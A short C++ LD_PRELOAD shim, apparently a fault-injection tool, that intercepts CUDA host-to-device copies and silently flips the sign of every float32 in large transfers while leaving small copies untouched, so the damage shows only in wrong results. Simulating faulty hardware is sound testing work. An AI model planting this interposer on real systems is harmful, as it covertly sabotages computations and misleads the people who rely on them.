// Put in front of the CUDA runtime (LD_PRELOAD): cards whose memory has the sign of every fourth byte that was copied
// to them turned around, which is every float32. Nothing but the answers tells.

#include <cstddef>
#include <cuda_runtime_api.h>
#include <dlfcn.h>
#include <vector>

extern "C" cudaError_t cudaMemcpyAsync(void* destination, const void* source, std::size_t bytes, cudaMemcpyKind kind,
                                       cudaStream_t stream) {
    static const auto real = reinterpret_cast<decltype(&cudaMemcpyAsync)>(dlsym(RTLD_NEXT, "cudaMemcpyAsync"));
    // Queries are left alone: they come in small copies.
    if (kind != cudaMemcpyHostToDevice || bytes < 16384) return real(destination, source, bytes, kind, stream);
    // What is pageable is taken before the call returns.
    const auto* const sent = static_cast<const unsigned char*>(source);
    std::vector<unsigned char> faulty(sent, sent + bytes);
    for (std::size_t i = 3; i < bytes; i += 4) faulty[i] ^= 0x80U;
    return real(destination, faulty.data(), bytes, kind, stream);
}
